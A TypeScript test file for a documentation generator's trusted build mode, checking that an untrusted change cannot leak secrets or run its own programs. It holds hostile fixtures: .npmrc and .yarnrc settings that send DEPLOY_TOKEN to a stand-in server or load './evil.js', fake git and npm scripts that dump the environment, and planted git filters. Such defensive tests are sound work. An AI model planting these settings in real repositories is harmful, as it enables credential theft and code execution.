import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test, vi } from 'vitest'
import { integrityOf, makePackage } from '../stand-ins/make-tarball.ts'
import { startRegistry } from '../stand-ins/registry.ts'
import { createProject, type Files, readTree, docsgen as runProgram, writeFiles } from './project.ts'
import { docsgen } from './run-here.ts'
import { commit, createSmallRepository, git } from './trusted-repository.ts'
import { typeScript } from './typed-site.ts'

// Each test builds one or two sites.
vi.setConfig({ testTimeout: 60_000 })

const toys = {
  name: 'toys',
  version: '1.0.0',
  tarball: makePackage({
    'package.json': '{ "name": "toys", "version": "1.0.0", "types": "index.d.ts" }',
    'index.d.ts': '/**\n * A toy.\n * @docsCategory toys\n */\nexport interface Toy {\n  name: string\n}\n',
  }),
}

const withPackage = `export default {
  title: 'Small', description: 'A small site.', lastUpdated: false,
  reference: {
    packages: { toys: { version: '1.0.0', integrity: '${integrityOf(toys.tarball)}' } },
    typescript: [{ package: 'toys', into: 'reference' }],
  },
}
`

const withSamples = "export default { title: 'Small', lastUpdated: false, check: { samples: { packages: 'samples' } } }\n"
const samples: Files = {
  'samples/package.json': '{ "dependencies": { "toys": "1.0.0" } }',
  'samples/package-lock.json': JSON.stringify({
    lockfileVersion: 3,
    packages: { '': { dependencies: { toys: '1.0.0' } }, 'node_modules/toys': { version: '1.0.0', integrity: integrityOf(toys.tarball) } },
  }),
  'content/code.md': "# Code\n\n```ts\nimport type { Toy } from 'toys'\nexport const toy: Toy = { name: 'a' }\n```\n",
}

/** Settings of package managers that send `DEPLOY_TOKEN` to a server, in every folder that a change can write to. */
function planted(folders: readonly string[], server: string): Files {
  const address = `${server}\${DEPLOY_TOKEN}/`
  const settings = {
    '.npmrc': `registry=${address}\nuserconfig=${address}\ngit=./evil\nscript-shell=./evil\nnode-options=--require ./evil.js\n`,
    'package.json': '{ "name": "evil", "workspaces": ["**", "trusted/**"], "packageManager": "npm@1.0.0" }',
    'pnpm-workspace.yaml': 'packages: ["**"]\n',
    '.yarnrc.yml': `npmRegistryServer: "${address}"\n`,
    '.node-version': '1\n',
  }
  return Object.fromEntries(
    folders.flatMap((folder) =>
      Object.entries(settings)
        // A change of the one above the project is refused.
        .filter(([name]) => name !== 'package.json' || !['', 'site/'].includes(folder))
        .map(([name, text]) => [`${folder}${name}`, text]),
    ),
  )
}

const everyFolder = [
  '',
  'site/',
  'site/.docsgen/',
  'site/.docsgen/trusted/',
  'site/.docsgen/packages/',
  'site/.docsgen/samples/',
  'site/content/',
]

async function preview(config: string, extra: Files = {}) {
  const registry = await startRegistry([toys], { token: 'from-the-user' })
  const server = await startRegistry([toys])
  const { top, root, canary } = createSmallRepository({ folder: 'site', extra: { ...extra, 'docs.config.ts': config } })
  commit(top, planted(everyFolder, server.url))
  writeFiles(top, typeScript)
  const home = createProject(
    { '.npmrc': `registry=${registry.url}\n//${registry.host}/:_authToken=\${READ_TOKEN}\nfetch-retries=0\n` },
    'home',
  )
  const env = { HOME: home, READ_TOKEN: 'from-the-user', DEPLOY_TOKEN: 'secret' }
  return { root, canary, env, registry, server }
}

// Not concurrent: each has its own servers.
describe('npm does not see the settings of a change', () => {
  for (const [what, config, extra, command] of [
    ['packages of the reference', withPackage, {}, 'build'],
    ['packages for samples', withSamples, samples, 'check'],
  ] as const) {
    test(`for ${what}, but those of the user, with the variables that they name`, async () => {
      const { root, env, registry, server } = await preview(config, extra)
      const { code, stderr } = await docsgen([command, '--trusted', 'main'], { cwd: root, env })
      expect({ code, sent: server.requests }, stderr).toEqual({ code: 0, sent: [] })
      expect(registry.requests).toEqual(expect.arrayContaining(['/toys']))
    })
  }

  test('nor variables that no trusted settings name', async () => {
    const { root, env } = await preview(withPackage)
    const seen = join(createProject({}), 'seen')
    const bin = createProject({ npm: `#!/bin/sh\nenv > '${seen}'\necho "$@" >> '${seen}'\nexit 1\n` }, 'bin')
    chmodSync(join(bin, 'npm'), 0o755)
    await docsgen(['build', '--trusted', 'main'], { cwd: root, env: { ...env, PATH: `${bin}:${process.env.PATH}`, AWS_KEY: 'secret' } })
    const text = readFileSync(seen, 'utf8')
    expect(text).toContain('READ_TOKEN=from-the-user')
    expect(text).not.toMatch(/secret|DEPLOY_TOKEN|AWS_KEY/)
    expect(text).toContain(`--userconfig=${env.HOME}/.npmrc`)
    expect(text).toMatch(/--prefix=\S+ .*--workspaces=false/)
  })

  test('and settings of the user in the repository are refused', async () => {
    const { root, env, server } = await preview(withPackage)
    const { code, stderr } = await docsgen(['build', '--trusted', 'main'], { cwd: root, env: { ...env, HOME: join(root, 'content') } })
    expect({ code, sent: server.requests }).toEqual({ code: 2, sent: [] })
    expect(stderr).toContain(`error npm reads your settings from \`${root}/content/.npmrc\`, which is in the repository.`)
  })
})

test('a program of a change is not run in the place of git or npm', async () => {
  const { root, canary, env, server } = await preview(withPackage)
  const program = `#!/bin/sh\nmkdir -p '${canary.folder}'; touch '${canary.folder}/'"$(basename "$0")"\n`
  for (const name of ['git', 'npm', 'node_modules/.bin/git', 'node_modules/.bin/npm', 'node_modules/.bin/node']) {
    writeFiles(root, { [name]: program })
    chmodSync(join(root, name), 0o755)
  }
  const path = `:.:node_modules/.bin:${root}/node_modules/.bin:${process.env.PATH}`
  const { code, stderr } = await docsgen(['build', '--trusted', 'main'], { cwd: root, env: { ...env, PATH: path } })
  expect({ code, sung: canary.sung(), sent: server.requests }, stderr).toEqual({ code: 0, sung: [], sent: [] })
})

describe.concurrent('the exported commit', () => {
  test.for([['TMPDIR'], ['XDG_CACHE_HOME'], ['HOME'], ['TMPDIR', 'XDG_CACHE_HOME', 'HOME']])(
    'is never in the repository, even if %s is',
    async (names, { expect }) => {
      const { root, canary } = createSmallRepository({ folder: 'site' })
      commit(root, { 'content/tmp/note.txt': '', 'content/tmp/node_modules/mark/index.js': canary.statement('package') })
      const env = Object.fromEntries(names.map((name) => [name, join(root, 'content/tmp')]))
      const { code, stderr } = await docsgen(['build', '--trusted', 'main'], { cwd: root, env })
      expect(canary.sung()).toEqual([])
      expect(Object.keys(readTree(join(root, 'content/tmp')) ?? {}).sort()).toEqual(['node_modules/mark/index.js', 'note.txt'])
      if (names.length === 1) return expect(code, stderr).toBe(0)
      expect(code).toBe(3)
      expect(stderr).toContain('docsgen found no folder outside of the repository to which only you can write')
      expect(stderr).toContain('hint Set `XDG_CACHE_HOME` to such a folder.')
    },
  )

  test('is in a folder that nobody else can read, and is removed', async ({ expect }) => {
    const cache = createProject({}, 'cache')
    const config = `import { statSync, writeFileSync } from 'node:fs'
import { dirname } from 'node:path'
let folder = import.meta.dirname
const found = []
while (folder.length > ${cache.length}) { found.push([folder, statSync(folder).mode & 0o777]); folder = dirname(folder) }
writeFileSync('${cache}/found.json', JSON.stringify(found))
export default { title: 'Small', lastUpdated: false }\n`
    const { root } = createSmallRepository({ folder: 'site', extra: { 'docs.config.ts': config } })
    // It is removed at the end of the process.
    const { code, stderr } = await runProgram(['build', '--trusted', 'main'], { cwd: root, env: { XDG_CACHE_HOME: cache } })
    expect(code, stderr).toBe(0)
    const found: readonly (readonly [string, number])[] = JSON.parse(readFileSync(join(cache, 'found.json'), 'utf8'))
    const [home, mode] = found.find(([folder]) => /\/docsgen\/trusted-\w+$/.test(folder)) ?? ['', 0]
    expect([home.startsWith(`${cache}/docsgen/trusted-`), mode, existsSync(home)]).toEqual([true, 0o700, false])
  })

  test('gets packages of the repository from the commit, and others from where they are installed', async ({ expect }) => {
    const { top, root, canary } = createSmallRepository({
      folder: 'docs/site',
      extra: {
        'docs.config.ts':
          "import { name } from '@acme/ui'\nimport { mark } from 'mark'\nimport { deep } from 'deep'\nexport default { title: [name, mark, deep].join(), lastUpdated: false }\n",
      },
    })
    git(top, 'checkout', '--quiet', 'main')
    commit(top, {
      'packages/ui/package.json': '{ "name": "@acme/ui", "main": "index.js", "dependencies": { "inner": "1.0.0" } }',
      'packages/ui/index.js': "exports.name = 'trusted-ui ' + require('inner').name\n",
    })
    git(top, 'checkout', '--quiet', '-B', 'change')
    commit(top, { 'packages/ui/index.js': `${canary.statement('workspace')}\nexports.name = 'evil-ui'\n` })
    writeFiles(top, {
      'packages/ui/node_modules/inner/package.json': '{ "name": "inner", "main": "index.js" }',
      'packages/ui/node_modules/inner/index.js': "exports.name = 'inner'\n",
      'docs/node_modules/deep/package.json': '{ "name": "deep", "main": "index.js" }',
      'docs/node_modules/deep/index.js': "exports.deep = 'installed-deep'\n",
    })
    mkdirSync(join(top, 'node_modules/@acme'))
    symlinkSync('../../packages/ui', join(top, 'node_modules/@acme/ui'))
    const { code, stderr } = await docsgen(['build', '--trusted', 'main'], { cwd: root })
    expect({ code, sung: canary.sung() }, stderr).toEqual({ code: 0, sung: [] })
    expect(readFileSync(join(root, 'out/index.html'), 'utf8')).toContain('trusted-ui inner,installed-mark,installed-deep')
    // What a change commits there would be loaded.
    git(top, 'add', '--force', 'packages/ui/node_modules/inner')
    const refused = await docsgen(['build', '--trusted', 'main'], { cwd: root })
    expect(refused.code).toBe(2)
    expect(refused.stderr).toContain('error `packages/ui/node_modules/inner/index.js` in the working tree differs from the trusted commit.')
  })

  test('does not use filters that a change chooses', async ({ expect }) => {
    const { top, root, canary } = createSmallRepository()
    const filter = join(
      createProject({ filter: `#!/bin/sh\nmkdir -p '${canary.folder}'; touch '${canary.folder}/filter'; cat\n` }),
      'filter',
    )
    chmodSync(filter, 0o755)
    for (const name of ['clean', 'smudge']) git(top, 'config', `filter.own.${name}`, filter)
    git(top, 'config', 'diff.own.textconv', filter)
    git(top, 'config', 'diff.external', filter)
    writeFileSync(join(root, 'public/.gitattributes'), '* filter=own diff=own\n')
    writeFiles(root, { 'public/hello.txt': 'changed\n' })
    const { code } = await docsgen(['build', '--trusted', 'main'], { cwd: root })
    expect(code).toBe(0)
    expect(canary.sung()).toEqual([])
  })
})
